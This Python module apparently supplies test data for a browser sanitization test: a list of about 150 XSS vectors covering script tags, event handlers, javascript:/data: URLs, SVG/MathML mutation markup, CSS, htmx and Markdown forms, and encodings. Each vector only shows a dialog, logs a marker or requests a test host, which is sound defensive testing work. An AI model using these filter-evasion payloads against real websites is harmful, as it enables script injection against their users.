"""A corpus of XSS vectors for the browser test: script tags, event handlers, javascript:/data:/vbscript:
URLs, SVG and MathML tricks, malformed and mutation markup, CSS expressions, htmx attributes, Markdown
link and image forms, and encodings (after the OWASP XSS filter evasion cheat sheet and PortSwigger's
XSS cheat sheet).

Each vector, if it ever ran, would do at least one observable thing: open a dialog (`alert`/`confirm`/
`prompt`), log `XSS-MARKER` to the console, or request a URL on the marker host. Nothing legitimate on
any page ever does those.
"""

from __future__ import annotations

MARKER_HOST = "xss-marker.test"
MARKER_URL = f"https://{MARKER_HOST}/hit"
LOG = "console.log('XSS-MARKER')"
FETCH = f"fetch('{MARKER_URL}')"

VECTORS: list[str] = [
    # --- script elements ---------------------------------------------------------------------------
    "<script>alert('XSS')</script>",
    f"<script>{LOG}</script>",
    f"<script src='{MARKER_URL}.js'></script>",
    "<SCRIPT>alert(String.fromCharCode(88,83,83))</SCRIPT>",
    "<scr<script>ipt>alert('XSS')</scr</script>ipt>",
    "<script/xss>alert('XSS')</script>",
    f"<script type=module>import('{MARKER_URL}.mjs')</script>",
    "<<script>alert('XSS');//<</script>",
    "<script>alert`1`</script>",
    "</title><script>alert('XSS')</script>",
    "</textarea><script>alert('XSS')</script>",
    "</style><script>alert('XSS')</script>",
    "--><script>alert('XSS')</script><!--",
    "]]><script>alert('XSS')</script>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('XSS')>\">",
    # --- event handlers ----------------------------------------------------------------------------
    "<img src=x onerror=alert('XSS')>",
    f'<img src=x onerror="{FETCH}">',
    "<img src=x:alert(1) onerror=eval(src)>",
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    "<img src=\"x\" `onerror=alert('XSS')`>",
    '<img """><script>alert(\'XSS\')</script>">',
    "<body onload=alert('XSS')>",
    "<svg onload=alert('XSS')>",
    "<svg/onload=alert('XSS')>",
    f'<div onmouseover="{LOG}" style="position:fixed;inset:0">hover</div>',
    "<input autofocus onfocus=alert('XSS')>",
    "<select autofocus onfocus=alert('XSS')></select>",
    "<textarea autofocus onfocus=alert('XSS')></textarea>",
    "<keygen autofocus onfocus=alert('XSS')>",
    "<details open ontoggle=alert('XSS')>",
    "<marquee onstart=alert('XSS')>x</marquee>",
    "<video><source onerror=alert('XSS')></video>",
    "<audio src=x onerror=alert('XSS')>",
    "<video poster=javascript:alert('XSS')//></video>",
    "<object data=x onerror=alert('XSS')></object>",
    "<iframe onload=alert('XSS')></iframe>",
    "<body onpageshow=alert('XSS')>",
    "<p onclick=alert('XSS') id=clickme>click me</p>",
    "<a onmouseover=alert('XSS')>hover link</a>",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>",
    "<img src=x oNeRrOr=alert('XSS')>",
    "<img src=x onerror\t=alert('XSS')>",
    "<img/src=x/onerror=alert('XSS')>",
    "<style onload=alert('XSS')></style>",
    "<form><button formaction=javascript:alert('XSS')>go</button></form>",
    "<isindex type=image src=1 onerror=alert('XSS')>",
    "<table background=javascript:alert('XSS')><tr><td>x</td></tr></table>",
    "<div style=\"width:expression(alert('XSS'))\">css expression</div>",
    # --- URLs ---------------------------------------------------------------------------------------
    "<a href=\"javascript:alert('XSS')\">js link</a>",
    "<a href=\"JaVaScRiPt:alert('XSS')\">mixed case</a>",
    "<a href=\"jav&#x09;ascript:alert('XSS')\">tab entity</a>",
    "<a href=\"jav\tascript:alert('XSS')\">raw tab</a>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert('XSS')\">entities</a>",
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">hex</a>',
    "<a href=\" &#14;  javascript:alert('XSS')\">leading junk</a>",
    "<a href=\"vbscript:msgbox('XSS')\">vbscript</a>",
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4=">data html</a>',
    "<a href=\"data:text/html,<script>alert('XSS')</script>\">data inline</a>",
    "<iframe src=\"javascript:alert('XSS')\"></iframe>",
    f'<iframe src="{MARKER_URL}"></iframe>',
    "<iframe srcdoc=\"<script>alert('XSS')</script>\"></iframe>",
    "<embed src=\"javascript:alert('XSS')\">",
    f'<embed src="{MARKER_URL}.swf">',
    "<object data=\"javascript:alert('XSS')\"></object>",
    "<img src=\"javascript:alert('XSS')\">",
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    "<form action=\"javascript:alert('XSS')\"><input type=submit></form>",
    f'<base href="https://{MARKER_HOST}/"><a href="page">relative</a>',
    f'<meta http-equiv="refresh" content="0;url={MARKER_URL}">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(\'XSS\')">',
    f'<link rel="stylesheet" href="{MARKER_URL}.css">',
    f'<link rel="import" href="{MARKER_URL}.html">',
    "<a href=\"java&#0;script:alert('XSS')\">nul entity</a>",
    "<a href=\"javascript&colon;alert('XSS')\">colon entity</a>",
    # --- SVG and MathML ------------------------------------------------------------------------------
    "<svg><script>alert('XSS')</script></svg>",
    "<svg><script href=\"data:,alert('XSS')\"/></svg>",
    "<svg><a xlink:href=\"javascript:alert('XSS')\"><text x=20 y=20>svg link</text></a></svg>",
    "<svg><animate onbegin=alert('XSS') attributeName=x dur=1s>",
    "<svg><set attributeName=onmouseover to=alert('XSS')>",
    "<svg><foreignObject><iframe srcdoc=\"<script>alert('XSS')</script>\"></iframe></foreignObject></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)' /></svg>#x\"></use></svg>",  # noqa: E501
    "<svg><style>@import url(javascript:alert('XSS'))</style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('XSS')>",
    "<math href=\"javascript:alert('XSS')\">CLICK</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert('XSS')>CLICK</maction></math>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert('XSS')>\">",
    "<math><mi//xlink:href=\"data:x,<script>alert('XSS')</script>\">",
    # --- malformed and mutation markup ---------------------------------------------------------------
    "<img src=\"x\"onerror=alert('XSS')>",
    "<<img src=x onerror=alert('XSS')//<",
    "<img src=x onerror=alert('XSS')//",
    "<a href=\"x\" <img src=x onerror=alert('XSS')>>",
    "<noscript><img src=x onerror=alert('XSS')></noscript>",
    "<template><img src=x onerror=alert('XSS')></template>",
    "<xmp><img src=x onerror=alert('XSS')></xmp>",
    "<div><!--<img src=\"--><img src=x onerror=alert('XSS')//\">-->",
    "<!--[if gte IE 4]><script>alert('XSS')</script><![endif]-->",
    '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',  # noqa: E501
    "<p title=\"</p><img src=x onerror=alert('XSS')>\">attribute breakout</p>",
    "<img src=`x`onerror=alert('XSS')>",
    "\"><script>alert('XSS')</script>",
    "'><img src=x onerror=alert('XSS')>",
    "<svg><![CDATA[><image xlink:href=\"]]><img src=x onerror=alert('XSS')>\"></svg>",
    "<object><param name=src value=javascript:alert('XSS')></param></object>",
    "<applet code=\"javascript:alert('XSS')\"></applet>",
    "<frameset onload=alert('XSS')>",
    "<xss id=x tabindex=1 onfocusin=alert('XSS')></xss>",
    # --- CSS -------------------------------------------------------------------------------------------
    "<style>body{background:url(\"javascript:alert('XSS')\")}</style>",
    f"<style>@import '{MARKER_URL}.css';</style>",
    f'<div style="background-image:url({MARKER_URL}.png)">css url</div>',
    '<div style="behavior:url(xss.htc)">behavior</div>',
    '<div style="-moz-binding:url(//xss-marker.test/xbl.xml#xss)">binding</div>',
    "<p style=\"x:expression(alert('XSS'))\">expression</p>",
    f"<style>*{{background:url('{MARKER_URL}.gif')}}</style>",
    # --- htmx attributes (the pages run htmx) ----------------------------------------------------------
    '<div hx-get="/api/v1/me/" hx-trigger="load" hx-on::after-request="alert(\'XSS\')">htmx</div>',
    f'<div hx-get="{MARKER_URL}" hx-trigger="load">htmx remote</div>',
    "<button hx-on:click=\"alert('XSS')\" id=hxbutton>htmx on</button>",
    '<div hx-vals=\'js:{a: alert("XSS")}\' hx-post="/" hx-trigger="load">hx-vals</div>',
    "<img src=x hx-on:error=\"alert('XSS')\">",
    # --- Markdown forms ---------------------------------------------------------------------------------
    "[markdown link](javascript:alert('XSS'))",
    "[encoded](javascript&#58;alert('XSS'))",
    "![markdown image](javascript:alert('XSS'))",
    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "<javascript:alert('XSS')>",
    "[ref][1]\n\n[1]: javascript:alert('XSS')",
    "```html\n<script>alert('XSS')</script>\n```",
    "`<img src=x onerror=alert('XSS')>`",
    "> <img src=x onerror=alert('XSS')>",
    "| a | b |\n|---|---|\n| <img src=x onerror=alert('XSS')> | <script>alert(1)</script> |",
    '[link](https://example.org "title" onmouseover="alert(\'XSS\')")',
    "![img](x\" onerror=\"alert('XSS'))",
    # --- encodings ------------------------------------------------------------------------------------
    "&lt;script&gt;alert('XSS')&lt;/script&gt;",
    "%3Cscript%3Ealert('XSS')%3C/script%3E",
    r"\u003cscript\u003ealert('XSS')\u003c/script\u003e",
    "<scr&#0;ipt>alert('XSS')</scr&#0;ipt>",
    "\uff1cscript\uff1ealert('XSS')\uff1c/script\uff1e",  # fullwidth < and >
    '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',  # noqa: E501
]
